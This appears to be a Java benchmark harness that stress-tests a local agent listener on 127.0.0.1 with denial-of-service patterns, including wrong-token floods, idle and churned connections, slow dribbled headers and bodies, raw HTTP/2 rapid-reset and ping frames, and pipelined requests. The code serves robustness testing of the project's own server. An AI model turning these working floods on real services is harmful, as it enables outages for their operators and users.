package ai.openlegion.bench;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/// One attack on an agents' listener, until it is killed.
///
/// One thread with a pace of its own, so that the machine's cores are left to those who are measured.
final class Attacker {
    private static final int TURN_MILLIS = 10;
    private static final int OPENED_IN_TURN = 50;
    private static final int AGAIN_IN_TURN = 10;
    private static final int TURNS_A_SECOND = 1000 / TURN_MILLIS;

    /// What is done; how many connections it holds, and what each of them sends in a turn.
    enum Attack {
        WRONG_TOKENS("1,000 wrong tokens a second", 10),
        IDLE("10,000 silent connections", 10_000),
        CONNECTS("5,000 new connections a second, silent", 10_000),
        SLOW_HEADS("500 heads that dribble", 500),
        SLOW_BODIES("500 bodies that dribble, valid token", 500),
        RESETS("HTTP/2: rapid resets", 8),
        PINGS("HTTP/2: pings without end", 8),
        PIPELINES("pipelined requests without a token", 8);

        private final String words;
        private final int connections;

        Attack(String words, int connections) {
            this.words = words;
            this.connections = connections;
        }

        String words() {
            return words;
        }
    }

    private final Attack attack;
    private final InetSocketAddress target;
    private final String token;
    private final List<SocketChannel> channels = new ArrayList<>();
    private final ByteBuffer sink = ByteBuffer.allocateDirect(256 * 1024);
    private long turn;
    private long opened;
    private long sentBytes;

    private Attacker(Attack attack, int port, String token) {
        this.attack = attack;
        this.token = token;
        target = new InetSocketAddress("127.0.0.1", port);
    }

    /// Attack, port, and the token of an agent.
    public static void main(String[] arguments) {
        new Attacker(Attack.valueOf(arguments[0]), Integer.parseInt(arguments[1]), arguments[2]).run();
    }

    private void run() {
        long next = System.nanoTime();
        while (true) {
            channels.removeIf(channel -> !isOpen(channel));
            int most = attack == Attack.IDLE && opened >= attack.connections ? AGAIN_IN_TURN : OPENED_IN_TURN;
            // what was closed is opened again, at most so many in a turn
            for (int i = 0; i < most && channels.size() < attack.connections; i++) {
                open();
            }
            for (int i = 0; i < channels.size(); i++) {
                strike(channels.get(i), i);
            }
            turn++;
            if (turn % TURNS_A_SECOND == 0) {
                System.out.println(
                        opened + " connections opened, " + channels.size() + " open, " + sentBytes + " bytes sent");
            }
            next += TimeUnit.MILLISECONDS.toNanos(TURN_MILLIS);
            LockSupport.parkNanos(next - System.nanoTime());
            next = Math.max(next, System.nanoTime());
        }
    }

    private void strike(SocketChannel channel, int index) {
        switch (attack) {
            case IDLE, CONNECTS -> {}
            case WRONG_TOKENS -> write(channel, request("ol_wrong-" + turn, "Content-Length: 2\r\n\r\n{}"));
            case PIPELINES -> write(channel, "GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(200));
            // each dribbles ten times a second
            case SLOW_HEADS, SLOW_BODIES -> {
                if (turn % 10 == index % 10) {
                    write(channel, " ");
                }
            }
            case RESETS -> write(channel, resets(50));
            case PINGS -> write(channel, pings(500));
        }
    }

    private void open() {
        try {
            SocketChannel channel = SocketChannel.open(target);
            channel.configureBlocking(false);
            channels.add(channel);
            opened++;
            switch (attack) {
                case IDLE, CONNECTS, WRONG_TOKENS, PIPELINES -> {}
                case SLOW_HEADS -> write(channel, "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nX-A: b");
                case SLOW_BODIES -> write(channel, request(token, "Content-Length: 100000\r\n\r\n{"));
                case RESETS, PINGS -> write(channel, preface());
            }
        } catch (IOException refused) {
            // it is tried again in the next turn
        }
    }

    private static String request(String token, String rest) {
        return "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token + "\r\n"
                + rest;
    }

    private static byte[] preface() {
        var bytes = new ByteArrayOutputStream();
        bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(bytes, 4, 0, 0, new byte[0]);
        return bytes.toByteArray();
    }

    /// Streams that are opened and reset; their numbers grow with the turns, so that a connection takes a few of these.
    private byte[] resets(int count) {
        // :method POST, :scheme http, :path /, of HPACK's own table
        byte[] head = {(byte) 0x83, (byte) 0x86, (byte) 0x84};
        var bytes = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            int stream = (int) ((turn * count + i) * 2 + 1);
            frame(bytes, 1, 4, stream, head);
            frame(bytes, 3, 0, stream, new byte[] {0, 0, 0, 8});
        }
        return bytes.toByteArray();
    }

    private static byte[] pings(int count) {
        var bytes = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            frame(bytes, 6, 0, 0, new byte[8]);
        }
        return bytes.toByteArray();
    }

    private static void frame(ByteArrayOutputStream to, int type, int flags, int stream, byte[] payload) {
        ByteBuffer head = ByteBuffer.allocate(9);
        head.putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream);
        to.writeBytes(head.array());
        to.writeBytes(payload);
    }

    private void write(SocketChannel channel, String text) {
        write(channel, text.getBytes(StandardCharsets.US_ASCII));
    }

    /// As much as fits; what does not is lost, which is no worse an attack.
    private void write(SocketChannel channel, byte[] bytes) {
        try {
            sentBytes += channel.write(ByteBuffer.wrap(bytes));
        } catch (IOException closed) {
            close(channel);
        }
    }

    private boolean isOpen(SocketChannel channel) {
        try {
            if (channel.isOpen() && channel.read(sink.clear()) >= 0) {
                return true;
            }
        } catch (IOException reset) {
            // closed below
        }
        close(channel);
        return false;
    }

    private static void close(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException gone) {
            // that is all that was wanted
        }
    }
}
